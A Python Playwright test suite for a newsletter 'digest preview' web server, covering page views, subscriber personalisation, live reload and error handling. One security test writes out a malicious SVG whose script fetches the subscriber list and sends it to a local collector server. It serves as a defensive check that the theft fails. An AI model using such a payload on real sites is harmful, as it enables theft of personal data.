"""`digest preview` in real headless Chromium: pages, controls, subscriber picker, live reload, errors."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.helpers.browser import BROWSER_MARKS
from tests.helpers.project import EXAMPLE_ISSUE

# The email's title colour inside the frame (null while the frame is between two documents).
TITLE_COLOR = ("(h => h && getComputedStyle(h).color)"
               "(document.querySelector('#email').contentDocument?.querySelector('h1'))")

pytestmark = BROWSER_MARKS


sync_api = pytest.importorskip("playwright.sync_api")
expect = sync_api.expect


def sign_in(page, server) -> None:
    """Open the address `digest preview` prints: its token becomes the context's cookie."""
    page.goto(server.login_url())
    assert "token=" not in page.url  # moved to an HttpOnly cookie, out of the address bar


@pytest.fixture
def page(browser, server):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    sign_in(page, server)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    yield page
    context.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def issue_file(project: Path) -> Path:
    return project / "issues" / f"{EXAMPLE_ISSUE}.yaml"


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def open_issue(page, server, fragment: str = ""):
    page.goto(f"{server.url}/issue/{EXAMPLE_ISSUE}{fragment}")
    page.wait_for_selector("body[data-state=ok]")
    frame = page.frame_locator("#email")
    frame.locator("h1").wait_for()
    return frame


def screenshot(page, tmp_path: Path, name: str) -> None:
    """Save a screenshot under the test's tmp_path (pytest keeps the last runs' folders for a look)."""
    target = tmp_path / f"preview-{name}.png"
    page.screenshot(path=str(target), full_page=False)


def test_index_lists_the_example_issue(page, server):
    page.goto(server.url + "/")
    row = page.locator(f"tr[data-slug='{EXAMPLE_ISSUE}']")
    row.wait_for()
    assert "Learning & Innovation Highlights 2023" in row.inner_text()
    assert "Innovation Hub News: Learning & Innovation Highlights 2023" in row.inner_text()
    assert "2023-12-21" in row.inner_text()
    assert row.locator(".state").inner_text() == "draft"
    row.locator("a.issue-link").click()
    page.wait_for_url(f"**/issue/{EXAMPLE_ISSUE}")
    page.frame_locator("#email").locator("h1").wait_for()


def test_index_shows_a_broken_issue_with_its_error_as_soon_as_it_is_saved(page, server, project):
    page.goto(server.url + "/")
    page.locator(f"tr[data-slug='{EXAMPLE_ISSUE}']").wait_for()
    (project / "issues" / "2024-01-broken.yaml").write_text("subject: Hi\ntitle: [unclosed\n", encoding="utf-8")
    row = page.locator("tr[data-slug='2024-01-broken']")
    row.wait_for(timeout=5000)  # the open list updates by itself
    assert "issues/2024-01-broken.yaml, line 3" in row.inner_text()
    assert "broken YAML" in row.inner_text()
    assert row.locator(".state").inner_text() == "cannot load"
    # The good issue is still listed below it.
    assert page.locator(f"tr[data-slug='{EXAMPLE_ISSUE}']").count() == 1


def test_issue_page_shows_the_email_at_each_width_and_in_dark(page, server, tmp_path):
    frame = open_issue(page, server)
    assert frame.locator("h1").inner_text() == "Learning & Innovation Highlights 2023"
    assert "Innovation Hub News: Learning & Innovation Highlights 2023" in page.locator("#subject").inner_text()
    # The header image is served from the issue's folder, not fetched from assets_url.
    image = frame.locator("img[alt='yellow shape']")
    assert image.get_attribute("src") == f"/issue/{EXAMPLE_ISSUE}/files/images/yellow-shape.png"
    assert image.evaluate("img => img.naturalWidth") > 0
    size = page.locator("#size").inner_text()
    assert re.search(r"HTML \d+\.\d KB", size) and "Gmail clips at ~102 KB" in size
    screenshot(page, tmp_path, "desktop")

    page.click("[data-width=mobile]")
    page.wait_for_function("document.querySelector('#email').getBoundingClientRect().width < 420")
    screenshot(page, tmp_path, "mobile")

    title_color = TITLE_COLOR
    assert page.evaluate(title_color) == "rgb(29, 53, 87)"  # [colors] brand #1d3557
    page.click("[data-mode=dark]")
    page.wait_for_function("document.querySelector('#email').dataset.url.includes('mode=dark')")
    # The email's @media (prefers-color-scheme: dark) rules now apply: [colors] dark_text #e8e8e8.
    page.wait_for_function(f"{title_color} === 'rgb(232, 232, 232)'")
    page.click("[data-width=desktop]")
    screenshot(page, tmp_path, "dark")


def test_width_switch_changes_the_frame_width(page, server):
    open_issue(page, server)
    desktop = page.locator("#email").bounding_box()["width"]
    page.click("[data-width=mobile]")
    page.wait_for_function("document.querySelector('#email').clientWidth === 375")
    assert 900 <= desktop <= 1000
    # The email's own mobile rules apply inside a 375 px frame (MJML stacks columns below 480 px).
    assert page.frame_locator("#email").locator("body").evaluate("b => b.ownerDocument.defaultView.innerWidth") == 375
    assert "w=mobile" in page.url
    page.click("[data-width=desktop]")
    page.wait_for_function("document.querySelector('#email').clientWidth > 900")


def test_text_view_shows_the_plain_text_part(page, server):
    open_issue(page, server)
    page.click("[data-view=text]")
    text = page.locator("#text")
    text.wait_for()
    assert "LEARNING & INNOVATION HIGHLIGHTS 2023" in text.inner_text()
    assert "Unsubscribe: https://example.org/newsletter/unsubscribe?token=" in text.inner_text()
    assert page.locator("#view-email").is_hidden()
    page.click("[data-view=headers]")
    headers = page.locator("#headers").inner_text()
    assert "List-Unsubscribe" in headers and "Reply-To" in headers
    assert "Innovation Hub <hub@example.org>" in headers
    page.click("[data-view=source]")
    assert page.locator("#source").inner_text().startswith("<!doctype html><html")  # the doctype is kept


def test_choosing_a_subscriber_personalises_the_frame(page, server, project):
    edit(issue_file(project), "intro: |\n", "intro: |\n  Dear {{ first_name }},\n\n")
    frame = open_issue(page, server)
    assert "Dear Anouk," in frame.locator("body").inner_text()  # the list's first row by default
    page.fill("#sub-search", "fatima")
    option = page.locator("#sub-results li[data-email='fatima.elamrani@example.com']")
    expect(page.locator("#sub-results li[data-email]")).to_have_count(1)  # searched on the server
    assert "1 of 12 match" in page.locator("#sub-results").inner_text()
    option.click()
    page.wait_for_function("document.querySelector('#email').dataset.url.includes('fatima')")
    frame.locator("text=Dear Fatima,").wait_for()
    body = frame.locator("body").inner_text()
    assert "This email was sent to fatima.elamrani@example.com" in body
    assert "Fatima El Amrani <fatima.elamrani@example.com>" in page.locator("#sub-current").inner_text()
    assert "s=fatima.elamrani%40example.com" in page.url
    # The unsubscribe link is signed for her address (the development key: no key in the environment).
    unsubscribe = frame.locator("a", has_text="Unsubscribe").get_attribute("href")
    assert unsubscribe.startswith("https://example.org/newsletter/unsubscribe?token=dev.")


def test_saving_the_issue_updates_the_open_page_and_keeps_its_state(page, server, project):
    frame = open_issue(page, server, "#w=mobile&m=dark&s=sjoerd.vandenberg%40example.net")
    frame.locator("text=sjoerd.vandenberg@example.net").first.wait_for()
    page.evaluate("window.__not_reloaded = true")
    edit(issue_file(project), "title: Learning & Innovation Highlights 2023",
         "title: Freshly Saved Title")
    frame.locator("h1", has_text="Freshly Saved Title").wait_for(timeout=5000)
    assert page.evaluate("window.__not_reloaded") is True  # updated in place, no page reload
    assert page.locator("#title").inner_text() == "Freshly Saved Title"
    assert page.locator("#email").evaluate("f => f.clientWidth") == 375
    assert "mode=dark" in page.locator("#email").get_attribute("data-url")
    assert "sjoerd.vandenberg@example.net" in frame.locator("body").inner_text()


def test_a_template_edit_also_reloads(page, server, project):
    frame = open_issue(page, server)
    edit(project / "templates" / "partials" / "footer.mjml.j2", "View in your browser", "Read it on the web")
    frame.locator("a", has_text="Read it on the web").wait_for(timeout=5000)


def test_a_broken_file_shows_its_error_and_fixing_it_recovers(page, server, project, tmp_path):
    frame = open_issue(page, server)
    path = issue_file(project)
    good = path.read_text(encoding="utf-8")
    path.write_text(good.replace("title: Learning & Innovation Highlights 2023", "title: [broken", 1), encoding="utf-8")
    page.wait_for_selector("body[data-state=error]", timeout=5000)
    where = page.locator("#error-where").inner_text()
    assert f"issues/{EXAMPLE_ISSUE}.yaml" in where and "line" in where
    assert "broken YAML" in page.locator("#error-message").inner_text()
    assert page.locator("#views").is_hidden()
    screenshot(page, tmp_path, "error")
    path.write_text(good.replace("title: Learning & Innovation Highlights 2023", "title: Back Again", 1), encoding="utf-8")
    page.wait_for_selector("body[data-state=ok]", timeout=5000)
    frame.locator("h1", has_text="Back Again").wait_for(timeout=5000)


def test_an_undefined_template_variable_names_the_template_line(page, server, project):
    open_issue(page, server)
    edit(project / "templates" / "partials" / "intro.mjml.j2", "{{ issue.intro | markdown }}",
         "{{ issue.intro | markdown }} {{ no_such_thing }}")
    page.wait_for_selector("body[data-state=error]", timeout=5000)
    assert "templates/partials/intro.mjml.j2" in page.locator("#error-where").inner_text()
    assert "no_such_thing" in page.locator("#error-message").inner_text()


def test_light_and_dark_do_not_follow_the_viewers_own_setting(browser, server):
    # A viewer whose system is in dark mode still sees the light rendering under "Light".
    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="dark")
    try:
        page = context.new_page()
        sign_in(page, server)
        open_issue(page, server, "#m=light")
        title_color = TITLE_COLOR
        assert page.evaluate(title_color) == "rgb(29, 53, 87)"
        page.click("[data-mode=dark]")
        page.wait_for_function(f"{title_color} === 'rgb(232, 232, 232)'")
    finally:
        context.close()


def test_the_page_survives_a_server_restart_on_the_same_port(page, server, settings):
    from digest.preview.server import start_preview

    frame = open_issue(page, server)
    port = server.port
    server.stop()
    page.wait_for_selector("#live:not(.on)", timeout=5000)
    again = start_preview(settings, port=port, poll_interval=0.1)
    again.serve_in_thread()
    try:
        page.wait_for_selector("#live.on", timeout=10000)
        assert frame.locator("h1").inner_text() == "Learning & Innovation Highlights 2023"
    finally:
        again.stop()


def test_an_email_over_gmails_limit_shows_the_clipping_warning(page, server, project):
    path = issue_file(project)
    path.write_text(path.read_text(encoding="utf-8") + "outro: |\n  " + "Lorem ipsum dolor sit amet. " * 4000 + "\n",
                    encoding="utf-8")
    page.goto(f"{server.url}/issue/{EXAMPLE_ISSUE}#v=text")  # visible whatever the view
    page.wait_for_selector("body[data-state=ok]")
    size = page.locator("#size")
    assert "over" in size.get_attribute("class")
    assert size.is_visible()
    assert re.search(r"⚠ HTML 1\d\d\.\d KB — over Gmail's ~102 KB limit: Gmail clips it", size.inner_text())


def test_the_page_loads_nothing_from_elsewhere_and_email_links_open_a_new_tab(browser, server):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    outside: list[str] = []

    def stub(route):
        # Nothing may reach the internet from a test: answer every outside request here.
        outside.append(route.request.url)
        route.fulfill(status=200, content_type="text/plain", body="stub")

    context.route(re.compile(r"^(?!http://127\.0\.0\.1:)"), stub)
    try:
        page = context.new_page()
        sign_in(page, server)
        frame = open_issue(page, server)
        for view in ("text", "headers", "source", "email"):
            page.click(f"[data-view={view}]")
        page.click("[data-mode=dark]")
        frame.locator("h1").wait_for()
        assert outside == []  # works offline: no CDN, images from the issue's folder
        with page.expect_popup() as popup:
            frame.locator("a", has_text="View in your browser").click()
        assert popup.value.url == f"https://example.org/newsletter/{EXAMPLE_ISSUE}/"
        assert page.url.startswith(f"{server.url}/issue/{EXAMPLE_ISSUE}")
        assert frame.locator("h1").inner_text() == "Learning & Innovation Highlights 2023"
    finally:
        context.close()


def test_an_svg_in_the_issue_folder_cannot_read_the_subscriber_list(page, server, project):
    import http.server
    import threading

    stolen: list[str] = []

    class Collector(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the base class's name
            stolen.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    try:
        # What a contributor could commit next to the issue's images, and a link in the email could open.
        (project / "issues" / "images" / "chart.svg").write_text(
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
            "fetch('/api/subscribers?q=').then(r => r.text()).then(t => {"
            " document.documentElement.setAttribute('data-stolen', t);"
            f" new Image().src = 'http://127.0.0.1:{collector.server_address[1]}/?d=' + encodeURIComponent(t.slice(0, 300));"
            " })</script></svg>", encoding="utf-8")
        open_issue(page, server)  # signed in: the preview's cookie is there, as for its user
        page.goto(f"{server.url}/issue/{EXAMPLE_ISSUE}/files/images/chart.svg")
        page.wait_for_timeout(1500)
        assert stolen == []
        assert page.evaluate("document.documentElement.getAttribute('data-stolen')") is None
    finally:
        collector.shutdown()
        collector.server_close()


def test_the_pre_send_checks_show_in_the_page_and_follow_a_save(page, server, project):
    edit(issue_file(project), "intro: |\n", "intro: |\n  Dear {{ first_name | upper }},\n\n")
    open_issue(page, server)
    notice = page.locator(".notice.check[data-code='merge-syntax']")
    notice.wait_for()
    assert "error: merge-syntax" in notice.inner_text()
    assert "issues/2023-12-learning-innovation-highlights.yaml:" in notice.inner_text()
    assert "bad" in (notice.get_attribute("class") or "")  # an error: shown as one
    edit(issue_file(project), "Dear {{ first_name | upper }},", "Dear {{ first_name }},")
    expect(page.locator(".notice.check")).to_have_count(0)  # fixed and saved: the finding goes
